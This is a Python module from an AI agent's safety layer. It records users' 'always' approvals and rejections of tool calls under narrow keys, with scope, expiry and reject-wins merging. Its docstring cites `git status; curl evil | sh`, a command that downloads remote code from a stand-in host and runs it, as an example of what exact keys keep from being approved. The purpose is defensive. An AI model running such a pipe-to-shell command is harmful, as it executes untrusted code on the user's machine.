"""Grants: what a person's "always" answer records, and the narrow keys they are filed under.

A grant key names exactly what was approved or rejected:

- a shell command: ``cmd:`` + the JSON of every simple command's argv, in order, so
  approving `git status` never approves `git status; curl evil | sh`;
- a path tool: ``path:`` + the tool name + the canonical path;
- any other tool: ``tool:`` + the tool name.

`SafetyConfig.grant_scope` can widen what an answer covers, opt-in (`broaden`): ``tool``
files every grant under the tool name; ``command-prefix`` files a command's grant under
``prefix:`` + each simple command's program and first non-option word (`git status`
covers `git status --short`, not `git push`). Grants never lift a DENY or a hard ASK,
whatever their scope, and an opaque command has no key to widen.

Where a grant holds and for how long is a `Grant`: its `scope` (``session``: this session;
``project``: every session in the same workspace; ``user``: every session of this user) and
an optional `expires_at`. Whether a grant still holds is judged against a `now` the caller
passes (`active_grants`): nothing here reads a clock.
"""

from __future__ import annotations

import functools
import json
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from enum import StrEnum
from typing import Any, Final, Literal

__all__ = [
    "GRANT_REACHES",
    "Grant",
    "GrantEffect",
    "GrantReach",
    "GrantScope",
    "active_grants",
    "broaden",
    "command_grant_key",
    "describe_grant_key",
    "merge_grants",
    "parse_duration",
    "path_grant_key",
    "tool_grant_key",
]

GrantScope = Literal["exact", "tool", "command-prefix"]
"""How wide a grant's key is (`SafetyConfig.grant_scope`), not where it holds."""

GrantReach = Literal["session", "project", "user"]
"""Where a grant holds: this session, every session in this project, every session of the user."""

GRANT_REACHES: Final[tuple[GrantReach, ...]] = ("session", "project", "user")

_REDIRECT = re.compile(r"\d*[<>]")
_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")


class GrantEffect(StrEnum):
    """What an "always" answer recorded: allow the same call again, or reject it."""

    ALLOW = "allow"
    REJECT = "reject"


# One encoder for every key: `json.dumps(..., ensure_ascii=False)` builds a new one per call.
_JSON: Final = json.JSONEncoder(ensure_ascii=False)


def command_grant_key(simple_commands: Sequence[Sequence[str]]) -> str:
    """Key for an exact parsed command: every simple command's argv, in order."""
    return "cmd:" + _JSON.encode([list(argv) for argv in simple_commands])


def path_grant_key(tool: str, canonical_paths: Sequence[str]) -> str:
    """Key for a path tool on exactly these canonical paths."""
    paths = tuple(sorted(canonical_paths))
    if type(tool) is str and set(map(type, paths)) <= _STR:
        return _path_key(tool, paths)  # plain strings: the same text, remembered
    return "path:" + _JSON.encode([tool, list(paths)])


_STR: Final = frozenset({str})


@functools.lru_cache(maxsize=4096)
def _path_key(tool: str, paths: tuple[str, ...]) -> str:
    return "path:" + _JSON.encode([tool, list(paths)])


def tool_grant_key(tool: str) -> str:
    """Key for a tool with no finer scope (no command, no path)."""
    return "tool:" + _JSON.encode(tool)


def broaden(grant_key: str | None, scope: str, tool: str) -> str | None:
    """The key an "always" answer is filed under for `scope` (`exact` keeps `grant_key`)."""
    if grant_key is None or scope == "exact":
        return grant_key
    if scope == "tool":
        return tool_grant_key(tool)
    if scope == "command-prefix" and grant_key.startswith("cmd:"):
        argvs = json.loads(grant_key[4:])
        return "prefix:" + _JSON.encode([_prefix(argv) for argv in argvs])
    return grant_key  # path tools and others keep their narrow key


def _prefix(argv: Sequence[str]) -> list[str]:
    if argv and argv[0] == "<operators>":
        return list(argv)  # the shape of the compound command stays exact
    out: list[str] = []
    words = list(argv)
    while words and _ASSIGNMENT.match(words[0]):
        out.append(words.pop(0))
    if words:
        out.append(words.pop(0))
    if words and not words[0].startswith("-") and not _REDIRECT.match(words[0]):
        out.append(words[0])
    return out


@dataclass(frozen=True, slots=True)
class Grant:
    """One recorded "always" answer: the key it is filed under, its effect, scope and lifetime.

    `expires_at` and `granted_at` are seconds since the epoch (`None`: no expiry, unknown).
    `what` is the call as the person saw it, for listings; it decides nothing.
    """

    key: str
    effect: GrantEffect
    scope: GrantReach = "session"
    expires_at: float | None = None
    granted_at: float | None = None
    what: str = ""

    def __post_init__(self) -> None:
        if not isinstance(self.key, str) or not self.key:
            raise ValueError(f"a grant key must be a non-empty string, got {self.key!r}")
        object.__setattr__(self, "effect", GrantEffect(self.effect))
        if self.scope not in GRANT_REACHES:
            raise ValueError(f"grant scope must be one of {', '.join(GRANT_REACHES)}")
        for name in ("expires_at", "granted_at"):
            value = getattr(self, name)
            if value is not None and (
                isinstance(value, bool)
                or not isinstance(value, int | float)
                or not math.isfinite(value)
            ):
                raise ValueError(f"grant `{name}` must be a finite number of seconds or None")
        if not isinstance(self.what, str):
            raise ValueError("grant `what` must be a string")

    def expired(self, now: float) -> bool:
        """True once `now` reached `expires_at`; a `now` that is not a finite number counts
        as past every expiry (a grant that cannot be judged does not hold)."""
        if self.expires_at is None:
            return False
        if isinstance(now, bool) or not isinstance(now, int | float) or not math.isfinite(now):
            return True
        return now >= self.expires_at

    def to_json(self) -> dict[str, Any]:
        """The JSON-ready form a grants file stores."""
        return {
            "key": self.key,
            "effect": self.effect.value,
            "scope": self.scope,
            "expires_at": self.expires_at,
            "granted_at": self.granted_at,
            "what": self.what,
        }

    @classmethod
    def from_json(cls, data: object) -> Grant:
        """The grant a stored record describes; ValueError for anything malformed."""
        if not isinstance(data, Mapping):
            raise ValueError("a grant record is not an object")
        unknown = set(data) - {"key", "effect", "scope", "expires_at", "granted_at", "what"}
        if unknown:
            raise ValueError(f"a grant record has unknown fields: {', '.join(sorted(unknown))}")
        try:
            return cls(
                key=data["key"],
                effect=GrantEffect(data["effect"]),
                scope=data["scope"],
                expires_at=data.get("expires_at"),
                granted_at=data.get("granted_at"),
                what=data.get("what", ""),
            )
        except KeyError as exc:
            raise ValueError(f"a grant record has no `{exc.args[0]}`") from None


def merge_grants(*maps: Mapping[str, GrantEffect]) -> dict[str, GrantEffect]:
    """One mapping from several; where two disagree about a key, the reject wins."""
    out: dict[str, GrantEffect] = {}
    for one in maps:
        for key, effect in one.items():
            if out.get(key) is not GrantEffect.REJECT:
                out[key] = GrantEffect(effect)
    return out


def active_grants(grants: Iterable[Grant], *, now: float) -> dict[str, GrantEffect]:
    """The grants that hold at `now` (expired ones left out), by key; a reject wins a tie."""
    return merge_grants(*({g.key: g.effect} for g in grants if not g.expired(now)))


_UNITS: Final = {"s": 1, "m": 60, "h": 3600, "d": 86400, "w": 7 * 86400}


def parse_duration(text: str) -> float:
    """Seconds in `90s`, `15m`, `1h`, `2d`, `1w` or `1h30m`; ValueError names what is valid.

    A linear scan (no regex): digits then one unit, repeated; the total must be > 0.
    """
    if not isinstance(text, str) or not text.strip():
        raise ValueError("a duration is a number and a unit, like `90s`, `15m`, `1h` or `2d`")
    total, digits, parts = 0, "", 0
    for ch in text.strip().lower():
        if ch.isascii() and ch.isdigit():
            digits += ch
            if len(digits) > 9:
                raise ValueError(f"duration `{text}` is too long")
        elif ch in _UNITS and digits:
            total += int(digits) * _UNITS[ch]
            digits, parts = "", parts + 1
        else:
            raise ValueError(
                f"duration `{text}`: expected a number and a unit (s, m, h, d, w), like `1h`"
            )
    if digits or parts == 0 or total <= 0:
        raise ValueError(
            f"duration `{text}`: expected a number and a unit (s, m, h, d, w), like `1h`"
        )
    return float(total)


def describe_grant_key(key: str) -> str:
    """A grant key in words a person reads: the command, the tool and paths, or the tool."""
    kind, _, body = key.partition(":")
    try:
        if kind in ("cmd", "prefix"):
            parts = [
                " ".join(str(w) for w in argv)
                for argv in json.loads(body)
                if list(argv[:1]) != ["<operators>"]
            ]
            shown = "; ".join(parts)
            return shown if kind == "cmd" else f"{shown} …"
        if kind == "path":
            tool, paths = json.loads(body)
            return f"{tool} {' '.join(str(p) for p in paths)}"
        if kind == "tool":
            return f"{json.loads(body)} (any arguments)"
    except (ValueError, TypeError):
        pass
    return key
